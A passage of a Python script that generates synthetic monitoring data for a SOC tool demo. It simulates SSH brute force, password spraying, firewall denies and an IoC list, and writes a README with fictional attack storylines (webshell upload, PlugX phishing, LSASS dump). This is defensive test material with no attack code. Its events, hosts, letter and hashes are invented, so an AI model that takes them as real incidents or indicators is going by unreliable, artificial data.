        sport=sport,
        facility="auth",
        level="info",
    )


def ssh_ok(
    ts: datetime,
    srv: Server,
    pid_: int,
    user: str,
    method: str,
    src: str,
    sport: int,
    rng: random.Random,
) -> dict[str, Any]:
    msg = f"Accepted {method} for {user} from {src} port {sport} ssh2"
    if method == "publickey":
        fp = base64.b64encode(hashlib.sha256(user.encode()).digest()).decode().rstrip("=")
        msg += f": ED25519 SHA256:{fp}"
    return sys_auth(
        ts,
        srv,
        "sshd",
        pid_,
        msg,
        outcome="success",
        category=["authentication"],
        etype=["start"],
        action="ssh_login",
        user=user,
        src=src,
        sport=sport,
        facility="auth",
        level="info",
    )


def fw_deny(
    rng: random.Random, ts: datetime, src: str, dst: str, dport: int, ioc: bool, session: int
) -> dict[str, Any]:
    service = {
        22: "SSH",
        23: "TELNET",
        445: "SMB",
        3389: "RDP",
        1433: "MS-SQL",
        3306: "MYSQL",
        8080: "HTTP-8080",
        5900: "VNC",
        443: "HTTPS",
        80: "HTTP",
    }[dport]
    sport = ephemeral(rng)
    policy = 'policyid=15 policyname="Chan-IoC-941-CATTT-NCSC"' if ioc else "policyid=0"
    epoch_ns = int(ts.timestamp()) * 1_000_000_000 + rng.randrange(10**9)
    kv = (
        f'date={ts:%Y-%m-%d} time={ts:%H:%M:%S} devname="FGT-TTTH-01" '
        f'devid="FG1K0FTB00000017" eventtime={epoch_ns} tz="+0700" logid="0000000013" '
        f'type="traffic" subtype="forward" level="notice" vd="root" srcip={src} '
        f'srcport={sport} srcintf="port1" srcintfrole="wan" dstip={dst} dstport={dport} '
        f'dstintf="port3" dstintfrole="dmz" sessionid={session} proto=6 action="deny" '
        f'{policy} policytype="policy" service="{service}" trandisp="noop" duration=0 '
        f"sentbyte=0 rcvdbyte=0 sentpkt=0 rcvdpkt=0"
    )
    return {
        "@timestamp": iso(ts),
        "event": {
            "kind": "event",
            "category": ["network"],
            "type": ["connection", "denied"],
            "action": "deny",
            "outcome": "failure",
            "module": "firewall",
            "dataset": "firewall.traffic",
            "original": f"<189>{kv}",
        },
        "host": {"name": FIREWALL["name"], "ip": [FIREWALL["ip"]]},
        "source": {"ip": src, "port": sport},
        "destination": {"ip": dst, "port": dport},
        "observer": {"type": "firewall", "vendor": "Fortinet", "product": "FortiGate"},
        "log": {"syslog": {"facility": {"name": "local7"}, "severity": {"name": "notice"}}},
        "message": kv,
    }


def gen_syslog(rng: random.Random, c: Ctx, ioc_ips: set[str]) -> list[dict[str, Any]]:
    recs: list[dict[str, Any]] = []
    linux = [s for s in SERVERS if s.linux]
    # 1. brute force: 203.0.113.7 -> srv-dvc-01, 40 failures in under 3 minutes (Tue 02:14)
    srv = SRV["srv-dvc-01"]
    t = at(1, 2, 14, 3)
    p = rng.randint(20000, 30000)
    sport = rng.randint(40000, 50000)
    for i in range(40):
        user = "root" if i % 3 == 0 else rng.choice(INVALID_USERS[:6])
        recs.append(ssh_fail(t, srv, p, user, user != "root", "203.0.113.7", sport))
        t += timedelta(seconds=rng.randint(2, 6))
        p += rng.randint(1, 3)
        sport += rng.randint(1, 40)
    assert t - at(1, 2, 14, 3) < timedelta(minutes=3)
    # 2. password spraying: 198.51.100.23, 30 accounts x 1 try, 3 servers, ~25 min (Fri 22:40)
    t = at(4, 22, 40, 12)
    targets = [SRV["srv-mail-01"], SRV["srv-dvc-02"], SRV["srv-web-02"]]
    for i, user in enumerate(SPRAY_USERS):
        s = targets[i % 3]
        invalid = user not in {"quantri", "vanhanh", "ketoan", "deploy"}
        recs.append(
            ssh_fail(
                t, s, rng.randint(10000, 60000), user, invalid, "198.51.100.23", ephemeral(rng)
            )
        )
        t += timedelta(seconds=rng.randint(30, 70))
    # ... and one account falls: "ketoan" on srv-mail-01
    recs.append(
        ssh_ok(
            t + timedelta(minutes=4),
            SRV["srv-mail-01"],
            rng.randint(10000, 60000),
            "ketoan",
            "password",
            "198.51.100.23",
            ephemeral(rng),
            rng,
        )
    )
    # 3. background sshd failures from the Internet (35) and from admins mistyping (5)
    for _ in range(35):
        s = rng.choice(linux)
        user = rng.choice(INVALID_USERS + ["root"] * 4)
        recs.append(
            ssh_fail(
                rand_time(rng, "server").replace(microsecond=0),
                s,
                rng.randint(1000, 60000),
                user,
                user != "root",
                c.ext.pick(p_ipsum=0.2, p_bad=0.1, p_v6=0.05),
                ephemeral(rng),
            )
        )
    # 4. accepted logins by administrators (31 + the sprayed one above)
    for _ in range(31):
        s = rng.choice(linux)
        ts = rand_time(rng, "office").replace(microsecond=0)
        user = rng.choice(VALID_ADMINS[:5])
        recs.append(
            ssh_ok(
                ts,
                s,
                rng.randint(1000, 60000),
                user,
                rng.choice(["publickey", "publickey", "password"]),
                rng.choice(ADMIN_SOURCES),
                ephemeral(rng),
                rng,
            )
        )
    # 5. sudo (23)
    for _ in range(23):
        s = rng.choice(linux)
        ts = rand_time(rng, "office").replace(microsecond=0)
        user = rng.choice(VALID_ADMINS[:4])
        cmd = rng.choice(SUDO_CMDS)
        msg = f"{user} : TTY=pts/{rng.randrange(4)} ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}"
        recs.append(
            sys_auth(
                ts,
                s,
                "sudo",
                rng.randint(1000, 60000),
                msg,
                outcome="success",
                category=["process"],
                etype=["start"],
                action="sudo",
                user=user,
                src=None,
                sport=None,
                facility="authpriv",
                level="notice",
                effective="root",
            )
        )
    # 6. FortiGate denies (40): IoC policy for listed addresses, implicit deny otherwise
    session = 81234567
    for _ in range(40):
        ts = rand_time(rng, "server").replace(microsecond=0)
        src = c.ext.pick(p_ipsum=0.35, p_bad=0.1, p_v6=0.0)
        dst = rng.choice([s.ip for s in SERVERS if s.public])
        dport = rng.choice([22, 23, 445, 3389, 1433, 3306, 8080, 5900, 443, 80])
        ioc = src in ioc_ips or any(
            ipaddress.ip_address(src) in ipaddress.ip_network(n) for n, _ in IOC_CIDRS
        )
        session += rng.randint(50, 5000)
        recs.append(fw_deny(rng, ts, src, dst, dport, ioc, session))
    recs.sort(key=lambda r: (r["@timestamp"], r["host"]["name"], r["message"]))
    return recs


# --------------------------------------------------------------------------- IoC list file


def write_ioc(path: Path, ipsum: list[tuple[str, int]]) -> None:
    lines = [
        "# socd bundled IoC list (SAMPLE, for the embedded demo only)",
        "#",
        f"# Source reference: công văn {LETTER}, ngày {LETTER_DATE} (fictional letter used by",
        "#   the demo; real letters come from NCSC / A05 and must be imported as their own batch).",
        f"# IP addresses tagged 'ipsum:N' are the first {IPSUM_IN_LIST} entries of the public",
        f"#   IPsum feed ({IPSUM_NAME}, https://github.com/stamparm/ipsum; N = number of",
        "#   blacklists naming the address). IPsum is public domain (The Unlicense),",
        "#   see shared/data/ioc/ipsum-LICENSE.txt.",
        "# CIDRs are inside documentation ranges (RFC 5737 / RFC 3849), domains use the",
        "#   reserved .example / .invalid TLDs, hashes are synthetic: all fictional.",
        "#",
        "# Format: one indicator per line (IPv4/IPv6 address, CIDR, domain, MD5, SHA-256);",
        "#   '#' starts a comment, blank lines are ignored.",
        "# Generated by scripts/gen_sample.py; do not edit by hand.",
        "",
        "# --- IP addresses (IPsum) ---",
    ]
    lines += [f"{ip:<18} # ipsum:{count}" for ip, count in ipsum]
    lines += ["", "# --- networks ---"]
    lines += [f"{net:<18} # {note}" for net, note in IOC_CIDRS]
    lines += ["", "# --- domains ---"]
    lines += [f"{d:<28} # {note}" for d, note in IOC_DOMAINS]
    lines += ["", "# --- SHA-256 ---"]
    lines += [f"{sample_hash(fam, v)['sha256']} # {note}" for fam, v, note in IOC_SHA256]
    lines += ["", "# --- MD5 ---"]
    lines += [f"{sample_hash(fam, v)['md5']} # {note}" for fam, v, note in IOC_MD5]
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(nfc("\n".join(lines) + "\n"), encoding="utf-8")


# --------------------------------------------------------------------------- stats & README

IPV4_RE = re.compile(r"(?<![\d.])(\d{1,3}(?:\.\d{1,3}){3})(?![\d.])")
IPV6_RE = re.compile(r"(?<![0-9a-fA-F:])(2001:db8:[0-9a-fA-F:]+)")
HEX_RE = re.compile(r"\b([0-9a-f]{64}|[0-9a-f]{32})\b")


def leaves(obj: Any) -> Iterator[str]:
    if isinstance(obj, dict):
        for v in obj.values():
            yield from leaves(v)
    elif isinstance(obj, list):
        for v in obj:
            yield from leaves(v)
    elif isinstance(obj, str):
        yield obj


@dataclass
class IocIndex:
    ips: set[str]
    nets: list[ipaddress.IPv4Network | ipaddress.IPv6Network]
    domains: list[str]
    hashes: set[str]

    def hits(self, rec: dict[str, Any]) -> set[str]:
        kinds: set[str] = set()
        for text in leaves(rec):
            for cand in IPV4_RE.findall(text) + IPV6_RE.findall(text):
                try:
                    addr = ipaddress.ip_address(cand.rstrip(":"))
                except ValueError:
                    continue
                if str(addr) in self.ips:
                    kinds.add("ip")
                elif any(addr in n for n in self.nets):
                    kinds.add("cidr")
            if any(d in text for d in self.domains):
                kinds.add("domain")
            if any(h in self.hashes for h in HEX_RE.findall(text)):
                kinds.add("hash")
        return kinds


# Vendor / ECS fields that socd's classifier checks against the IoC list once decoded
# (source.ip, destination.ip, file.hash.*, destination.domain, ...).
MATCHED_FIELDS: dict[str, dict[str, list[str]]] = {
    "server-edr.ndjson": {"ip": ["remote_ip"], "hash": ["file.sha256", "file.md5"]},
    "workstation-edr.ndjson": {
        "ip": ["RemoteAddress"],
        "hash": ["Hash.MD5", "Hash.SHA1", "Hash.SHA256"],
    },
    "ids.ndjson": {"ip": ["source.ip", "destination.ip"], "domain": ["destination.domain"]},
    "syslog.ndjson": {"ip": ["source.ip", "destination.ip"]},
}


def dig(obj: Any, path: str) -> Any:
    for part in path.split("."):
        if not isinstance(obj, dict):
            return None
        obj = obj.get(part)
    return obj


def field_hits(index: IocIndex, rec: dict[str, Any], paths: dict[str, list[str]]) -> set[str]:
    kinds: set[str] = set()
    for kind, fields in paths.items():
        for f in fields:
            v = dig(rec, f)
            if not isinstance(v, str):
                continue
            if kind == "ip":
                addr = ipaddress.ip_address(v)
                if v in index.ips or any(addr in n for n in index.nets):
                    kinds.add("ip")
            elif (kind == "hash" and v in index.hashes) or (
                kind == "domain" and v in index.domains
            ):
                kinds.add(kind)
    return kinds


def key_paths(obj: Any, prefix: str = "") -> Iterator[str]:
    if isinstance(obj, dict):
        for k, v in obj.items():
            p = f"{prefix}.{k}" if prefix else k
            if isinstance(v, dict):
                yield from key_paths(v, p)
            else:
                yield p


def render_table(header: list[str], rows: list[list[str]]) -> list[str]:
    out = ["| " + " | ".join(header) + " |", "|" + "|".join("---" for _ in header) + "|"]
    out += ["| " + " | ".join(r) + " |" for r in rows]
    return out


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    ap.add_argument(
        "--ipsum", type=Path, default=DEFAULT_IPSUM, help="IPsum feed (default: %(default)s)"
    )
    ap.add_argument(
        "--out-root",
        type=Path,
        default=REPO,
        help="repository root to write into (default: %(default)s)",
    )
    args = ap.parse_args(argv)
    root: Path = args.out_root
    sample_dir = root / "socd" / "default" / "sample"
    ioc_path = root / "socd" / "default" / "ioc" / "ioc-sample.txt"

    ipsum, ipsum_src = read_ipsum(args.ipsum, ioc_path)
    ipsum_events = [ip for ip, _ in ipsum[:IPSUM_IN_EVENTS]]
    rng = random.Random(SEED)
    ctx = Ctx(ext=External(rng, ipsum_events), ipsum_events=ipsum_events)
    pcs = build_workstations(rng)
    ioc_ips = {ip for ip, _ in ipsum}

    sev_variants: dict[str, Counter[str]] = {"server": Counter(), "workstation": Counter()}
    data = {
        "server-edr.ndjson": gen_server(rng, ctx, sev_variants["server"]),
        "workstation-edr.ndjson": gen_workstation(rng, ctx, pcs, sev_variants["workstation"]),
        "ids.ndjson": gen_ids(rng, ctx),
        "syslog.ndjson": gen_syslog(rng, ctx, ioc_ips),
    }

    sample_dir.mkdir(parents=True, exist_ok=True)
    for name, recs in data.items():
        text = "".join(json.dumps(nfc(r), ensure_ascii=False) + "\n" for r in recs)
        (sample_dir / name).write_text(text, encoding="utf-8")
    write_ioc(ioc_path, ipsum)

    # ---- statistics
    index = IocIndex(
        ips=ioc_ips,
        nets=[ipaddress.ip_network(n) for n, _ in IOC_CIDRS],
        domains=[d for d, _ in IOC_DOMAINS],
        hashes={sample_hash(f, v)["sha256"] for f, v, _ in IOC_SHA256}
        | {sample_hash(f, v)["md5"] for f, v, _ in IOC_MD5},
    )

    def fold(label: str) -> str:
        text = unicodedata.normalize("NFD", label.strip().casefold()).replace("đ", "d")
        return "".join(ch for ch in text if not unicodedata.combining(ch))

    by_fold = {fold(v): k for k, v in SEV_LABEL.items()}

    def canon(label: str) -> str:
        return by_fold[fold(label)]

    sev_counts = {
        "server-edr.ndjson": Counter(canon(r["severity"]) for r in data["server-edr.ndjson"]),
        "workstation-edr.ndjson": Counter(
            canon(r["ThreatLevel"]) for r in data["workstation-edr.ndjson"]
        ),
        "ids.ndjson": Counter(r["socd"]["vendor_severity"] for r in data["ids.ndjson"]),
    }
    syslog_kinds = Counter(
        f"{r['event']['dataset']} {r['event']['action']} {r['event']['outcome']}"
        for r in data["syslog.ndjson"]
    )
    hits = {name: Counter(k for r in recs for k in index.hits(r)) for name, recs in data.items()}
    any_hit = {name: sum(1 for r in recs if index.hits(r)) for name, recs in data.items()}
    fhits = {
        name: Counter(k for r in recs for k in field_hits(index, r, MATCHED_FIELDS[name]))
        for name, recs in data.items()
    }
    fany = {
        name: sum(1 for r in recs if field_hits(index, r, MATCHED_FIELDS[name]))
        for name, recs in data.items()
    }
    keysets = {name: sorted({p for r in recs for p in key_paths(r)}) for name, recs in data.items()}
    used_hashes = sum(
        1
        for h in index.hashes
        if any(h in t for recs in data.values() for r in recs for t in leaves(r))
    )
    ipsum_used = sorted(
        {
            ip
            for recs in data.values()
            for r in recs
            for t in leaves(r)
            for ip in IPV4_RE.findall(t)
            if ip in ioc_ips
        }
    )

    sev_order = ["low", "medium", "high", "critical"]
    lines = [
        "# socd embedded demo data set",
        "",
        "Synthetic monitoring data for one week at a fictional Vietnamese provincial SOC",
        "(Data Integration Centre, 12 servers in 10.10.20.0/24; 7 units with workstations in",
        "10.20.<unit>.0/24), used by socd's embedded default demo. Time span",
        f"{iso(START)} to {iso(END)} (Vietnam time, all timestamps ISO 8601 with +07:00).",
        "",
        "**Generated** by `python3 scripts/gen_sample.py` (Python stdlib only, fixed seed "
        f"{SEED}, deterministic). Do not edit by hand; change the generator and re-run it.",
        "",
        "## Files",
        "",
    ]
    descr = {
        "server-edr.ndjson": 'fictional server EDR "VSEC Server Guard" (vendor format, '
        "decoded with `mappings/server_edr.yaml`)",
        "workstation-edr.ndjson": 'fictional workstation EDR "VSEC Endpoint" (vendor format, '
        "PascalCase, decoded with `mappings/workstation_edr.yaml`)",
        "ids.ndjson": "Suricata alerts from sensor `ids-dmz-01`, already ECS",
        "syslog.ndjson": "sshd / sudo (system.auth) and FortiGate denies (firewall.traffic), "
        "already ECS",
    }
    lines += render_table(
        ["file", "records", "content"], [[f"`{n}`", str(len(r)), descr[n]] for n, r in data.items()]
    )
    lines += [f"| **total** | **{sum(len(r) for r in data.values())}** | |", ""]
    lines += [
        "Plus `../ioc/ioc-sample.txt`: the bundled IoC list "
        f"({IPSUM_IN_LIST} IPsum addresses, {len(IOC_CIDRS)} CIDRs, {len(IOC_DOMAINS)} "
        f"domains, {len(IOC_SHA256)} SHA-256, {len(IOC_MD5)} MD5), tied to the fictional "
        f"letter {LETTER} of {LETTER_DATE}.",
        "",
    ]
    lines += [
        "## Severities",
        "",
        "Vendor labels are Vietnamese; about 5 % of EDR records spell them in another "
        "case or without diacritics (e.g. `Trung binh`, `CAO`, `thap`) to exercise "
        "normalisation. Counts below are after normalisation "
        "(variant spellings in brackets).",
        "",
    ]
    rows = []
    for name in ("server-edr.ndjson", "workstation-edr.ndjson"):
        var = sev_variants["server" if name.startswith("server") else "workstation"]
        for sev in sev_order:
            if sev_counts[name][sev]:
                rows.append(
                    [
                        f"`{name}`",
                        f"{sev} ({SEV_LABEL[sev]})",
                        f"{sev_counts[name][sev]} ({var[sev]})",
                    ]
                )
    for prio in (1, 2, 3):
        n_ids = sev_counts["ids.ndjson"][prio]
        rows.append(["`ids.ndjson`", f"Suricata severity {prio}", str(n_ids)])
    lines += render_table(["file", "severity", "records (variant spellings)"], rows)
    lines += ["", "`syslog.ndjson` has no vendor severity; by kind:", ""]
    lines += render_table(
        ["event.dataset / event.action / event.outcome", "records"],
        [[f"`{k}`", str(v)] for k, v in sorted(syslog_kinds.items())],
    )
    lines += [
        "",
        "## IoC hits",
        "",
        "Records whose matched fields hold an indicator of `ioc-sample.txt` (what socd's "
        "classifier sees after decoding: `source.ip`/`destination.ip` - EDR `remote_ip` and "
        "`RemoteAddress` map there -, `file.hash.*`, `destination.domain`; an IP counts when "
        "it is listed or inside a listed CIDR):",
        "",
    ]
    lines += render_table(
        ["file", "records with a hit", "ip", "hash", "domain"],
        [
            [f"`{n}`", str(fany[n])] + [str(fhits[n][k]) for k in ("ip", "hash", "domain")]
            for n in data
        ],
    )
    lines += [
        "",
        "Records that mention an indicator anywhere, including messages and command lines "
        "(listed IP, IP in a listed CIDR, listed domain, listed hash):",
        "",
    ]
    lines += render_table(
        ["file", "records", "ip", "cidr", "domain", "hash"],
        [
            [f"`{n}`", str(any_hit[n])]
            + [str(hits[n][k]) for k in ("ip", "cidr", "domain", "hash")]
            for n in data
        ],
    )
    lines += [
        "",
        f"{len(ipsum_used)} distinct IPsum addresses occur in events; "
        f"{used_hashes} of the {len(index.hashes)} listed hashes occur in EDR records.",
        "",
    ]
    lines += [
        "## Storylines",
        "",
        "- Tue 17/11 02:14: SSH brute force from 203.0.113.7 against `srv-dvc-01` "
        "(40 failures in under 3 minutes; IDS `ET SCAN Potential SSH Scan` just before).",
        "- Wed 18/11 14:02-14:09: upload of a PHP webshell on the provincial portal "
        "`srv-web-tinh` from an IPsum address, command execution, download from "
        "`update-cdn-sync.example` (server EDR medium, high, 2 x critical; 2 IDS alerts).",
        "- Thu 19/11 08:12-10:52: phishing wave with `Công văn 941-CATTT khẩn.doc` "
        "(14 workstations in several units, listed SHA-256), one PlugX backdoor.",
        "- Fri 20/11 22:40: password spraying from 198.51.100.23 (30 accounts, 3 servers) "
        "followed by a successful login as `ketoan`.",
        "- All week: USB worm at UBND huyện Châu Thành (listed MD5).",
        "- Sat 21/11 02:17: LSASS dump on `srv-ad-01` (critical).",
        "",
    ]
    lines += [
        "## Provenance and licence",
        "",
        f"- External IPv4 addresses are mostly from the documentation ranges "
        "192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24 (RFC 5737) and 2001:db8::/32 "
        f"(RFC 3849). {IPSUM_IN_EVENTS} addresses used in events and the "
        f"{IPSUM_IN_LIST} addresses of the IoC list come from the first lines of the "
        f"IPsum feed `{IPSUM_NAME}` (https://github.com/stamparm/ipsum), which is "
        "public domain (The Unlicense, see `shared/data/ioc/ipsum-LICENSE.txt`). "
        "IPsum lists addresses reported by public blacklists; their presence here says "
        "nothing about who operates them.",
        "- Internal addresses are private (10.10.0.0/16, 10.20.0.0/16).",
        "- Agency names follow the usual provincial naming but the data is invented; "
        'host names, user names, products ("VSEC Server Guard", "VSEC Endpoint"), '
        f"the letter {LETTER} and all events are fictional.",
        "- File hashes are synthetic (SHA-256/SHA-1/MD5 of a label) and match no real "
        "file. Suricata signature ids and names imitate ET Open; they are illustrative.",
        "- Domains use the reserved `.example` and `.invalid` TLDs.",
        "",
    ]
    (sample_dir / "README.md").write_text(nfc("\n".join(lines)), encoding="utf-8")

    # ---- console summary
    print(f"IPsum source: {ipsum_src}")
    for name, recs in data.items():
        print(f"{name}: {len(recs)} records")
    for name, cnt in sev_counts.items():
        print(f"  {name} severities: {dict(sorted(cnt.items(), key=lambda kv: str(kv[0])))}")
    for name, cnt in sev_variants.items():
        print(f"  {name} variant spellings: {dict(cnt)}")
    print(f"  syslog kinds: {dict(sorted(syslog_kinds.items()))}")
    for name in data:
        print(f"  IoC field hits {name}: any={fany[name]} {dict(fhits[name])}")
        print(f"  IoC mentions   {name}: any={any_hit[name]} {dict(hits[name])}")
    print(
        f"  distinct IPsum addresses in events: {len(ipsum_used)}; "
        f"listed hashes seen: {used_hashes}/{len(index.hashes)}"
    )
    for name, keys in keysets.items():
        print(f"  keys {name}: {', '.join(keys)}")
    print(f"wrote {sample_dir} and {ioc_path}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
